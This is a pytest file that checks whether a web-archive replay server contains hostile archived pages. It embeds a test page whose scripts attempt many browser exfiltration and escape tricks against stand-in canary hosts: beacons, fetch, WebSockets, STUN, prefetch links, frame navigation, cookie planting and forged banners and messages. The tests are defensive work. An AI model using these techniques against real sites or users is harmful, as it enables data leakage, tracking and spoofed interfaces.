"""Archived pages are hostile: what they may try in the reader's browser, and that nothing of it gets out or through."""

from __future__ import annotations

import socket

import pytest
from browser import Chromium, Page
from served import archive_of, served

EVIL = "http://xau.example/"
# Each line tries one way out or in and says what came of it. AC.test is where a canary listens.
TRIES = r"""
top: top.document.title
parent: parent.document.body.innerHTML
room: fetch('ROOM/').then(r => r.text())
room-frame: new Promise((y, n) => { const i = document.createElement('iframe'); i.src = 'ROOM/'; i.onload = () => i.contentDocument ? y(i.contentDocument.title) : n(Error('none')); document.body.append(i) })
worker: navigator.serviceWorker.register('/web/2026/http://xau.example/sw.js')
shared: new SharedWorker('http://a.ac.test/')
socket: new WebSocket('ws://b.ac.test/')
rtc: new RTCPeerConnection({iceServers: [{urls: 'stun:c.ac.test'}]})
blank: { const i = document.createElement('iframe'); document.body.append(i); i.contentWindow.fetch('http://d.ac.test/') }
top-location: top.location = 'http://e.ac.test/'
parent-location: parent.location.href = 'http://e.ac.test/'
fetch: fetch('http:' + '//f.ac.test/')
fetch-no-cors: fetch('http:' + '//g.ac.test/', {mode: 'no-cors', keepalive: true}).then(r => { if (r.type !== 'opaque') return r.type; throw Error('seen by nobody') })
beacon: navigator.sendBeacon('http://h.ac.test/') && Promise.reject(Error('swallowed'))
image: new Promise((y, n) => { const i = new Image(); i.onload = y; i.onerror = () => n(Error('none')); i.src = 'http://i.ac.test/?leak' })
own-proof: fetch(location.href).then(r => r.text()).then(x => { if (/data-proof="\w+"/.test(x)) return x; throw Error('not told') })
script-tag: document.querySelector('script[data-proof]').dataset.proof
storage-real: (() => { localStorage.setItem('a', '1'); throw Error('in memory only') })()
"""
QUIET = r"""
document.cookie = 'stolen=1';
const d = document.createElement('div');
d.innerHTML = '<img src=http://j.ac.test/><link rel=preconnect href=http://k.ac.test/><link rel=stylesheet href=//l.ac.test/>';
document.body.append(d);
const link = document.createElement('link'); link.rel = 'preconnect'; link.href = 'http:' + '//m.ac.test/'; document.head.append(link);
document.head.append(...new DOMParser().parseFromString('<link rel=preconnect href=http://n.ac.test/><link rel=dns-prefetch href=//o.ac.test><link rel=prefetch href=//p.ac.test>', 'text/html').head.childNodes);
const bare = document.createElement('link'), href = document.createAttribute('href'); href.value = 'http:' + '//q.ac.test/';
bare.attributes.setNamedItem(href); bare.relList.add('preconnect'); document.head.append(bare); href.value = 'http:' + '//q2.ac.test/';
document.write('<script src=//r.ac.test/x.js><\/script><iframe src=//s.ac.test/></iframe><img src=//s2.ac.test>');
const framed = document.createElement('iframe'); document.body.append(framed); framed.src = 'http:' + '//t.ac.test/';
const inner = document.createElement('iframe'); inner.srcdoc = '<script>new Image().src="http:/"+"/u.ac.test/"<\/script><link rel=preconnect href=//v.ac.test>'; document.body.append(inner);
document.body.style.background = 'url(http:' + '//w.ac.test/)';
const style = document.createElement('style'); style.textContent = '@import "http:' + '//x.ac.test/"; p { background: url(//y.ac.test) }'; document.head.append(style);
const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image'); svg.setAttributeNS('http://www.w3.org/1999/xlink', 'href', 'http:' + '//z.ac.test/'); document.body.append(svg);
const rules = document.createElement('script'); rules.type = 'speculationrules';
rules.textContent = JSON.stringify({prefetch: [{source: 'list', urls: ['http:' + '//aa.ac.test/']}], prerender: [{source: 'list', urls: ['http:' + '//ab.ac.test/']}]}); document.head.append(rules);
new EventSource('http:' + '//ac.ac.test/');
for (const word of ['0'.repeat(32), 'f'.repeat(32)]) top.postMessage({tangthu: {record: 'urn:uuid:khac', proof: word}}, '*');
top.postMessage({tangthu: {record: RECORD, proof: 'a'.repeat(32)}}, '*');
const fake = document.createElement('header'); fake.id = 'banner'; fake.className = 'banner'; fake.textContent = 'GIA MAO'; document.body.prepend(fake);
"""


def hostile(room: str) -> bytes:
    lines = [line.partition(": ") for line in TRIES.strip().splitlines()]
    tries = "\n".join(
        f"try {{ const r = (() => {{ {'' if code.startswith('{') else 'return '}{code} }})(); "
        f"Promise.resolve(r).then(v => said[{name!r}] = 'GOT ' + v, e => said[{name!r}] = 'held'); }} catch (e) {{ said[{name!r}] = 'held'; }}"
        for name, _, code in lines
    )  # fmt: skip
    script = f"const said = window.said = {{}};\n{tries}\n{QUIET}\nwindow.over = true;".replace("ROOM", room).replace("RECORD", "'urn:uuid:khac'")
    return (
        "<!doctype html><html><head><title>Bẫy</title><link rel=dns-prefetch href=//ad.ac.test><link rel=preconnect href=http://ae.ac.test crossorigin>"
        "<link rel=prefetch href=http://af.ac.test/><link rel=stylesheet href=http://ag.ac.test/x.css></head><body>"
        "<a id=away href=http://di.ac.test/ target=_top ping=http://ah.ac.test/>đi</a>"
        f"<form id=f action=http://ai.ac.test/ target=_top method=post><input name=a></form><script>{script}</script></body></html>"
    ).encode()


@pytest.fixture
def trap(tmp_path, canary):
    """(server, page in a browser, canary) on the hostile page, its tries over."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
    answers = {
        EVIL: hostile(f"http://127.0.0.1:{port}"), "http://di.ac.test/": b"<html><body>trang dich</body></html>",
        "http://di.ac.test/hai": b"<html><body>trang hai</body></html>",
    }  # fmt: skip
    path = archive_of(tmp_path / "a.db", answers)
    browser = Chromium(tmp_path / "chromium", {"*.ac.test": canary.at, "ac.test": canary.at})
    with served(path, port=port) as server, browser:
        page = browser.page()
        yield server, page, canary
    assert canary.hits == []
    assert browser.outside(f"http://localhost:{port}") == []


def opened(server, page: Page, mode: str = "") -> str:
    page.open(f"http://localhost:{server.port}/web/2026{mode}/{EVIL}")
    page.until(f"window.over && Object.keys(window.said).length >= {len(TRIES.strip().splitlines())}", page.frame)
    return page.frame()


@pytest.mark.parametrize("mode", ["", "if_"])
def test_nothing_gets_out_of_the_archive_and_nothing_of_the_room_gets_in(trap, mode):
    server, page, canary = trap
    frame = opened(server, page, mode)
    assert canary.touched == 0
    said = page.run("said", frame)
    assert said == dict.fromkeys(said, "held")
    assert page.browser.call("Storage.getCookies")["cookies"] == []
    assert page.run("location.href") == f"http://localhost:{server.port}/web/20260110081501{mode}/{EVIL}"


def test_banner_cannot_be_forged_or_reached(trap):
    server, page, _ = trap
    opened(server, page)
    banner = page.run("document.getElementById('banner').innerText")
    assert "captured 2026-01-10 08:15:01 UTC" in banner
    assert EVIL in banner
    assert "GIA MAO" not in page.run("document.body.innerText")


@pytest.mark.parametrize(
    "how",
    [
        "location = 'http:' + '//di.ac.test/'",
        "location.href = 'http:' + '//di.ac.test/'",
        "location.assign('http:' + '//di.ac.test/')",
        "window.open('http:' + '//di.ac.test/')",
        "document.getElementById('away').click()",
        "{ const a = document.createElement('a'); a.href = 'http:' + '//di.ac.test/'; a.target = '_top'; document.body.append(a); a.click() }",
        "{ const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=http:' + '//di.ac.test/'; document.head.append(m) }",
        "{ const f = document.createElement('form'); f.action = 'http:' + '//di.ac.test/'; document.body.append(f); f.submit() }",
    ],
)
def test_script_that_leaves_is_led_to_the_capture_of_where_it_goes(trap, how):
    server, page, _ = trap
    frame = opened(server, page)
    page.call("Page.bringToFront")
    page.browser.call("Runtime.evaluate", frame, expression=how, userGesture=True)
    page.until("document.getElementById('banner').innerText.includes('http://di.ac.test/')")
    assert page.until("document.body.innerText", page.frame).strip() == "trang dich"
    assert page.run("location.href").startswith(f"http://localhost:{server.port}/web/20260110081501/http://di.ac.test/")


def test_form_of_a_hostile_page_is_sent_nowhere(trap):
    server, page, _ = trap
    frame = opened(server, page)
    page.browser.call("Runtime.evaluate", frame, expression="document.getElementById('f').submit()", userGesture=True)
    page.until("document.getElementById('banner').innerText.includes('does not say which capture')")
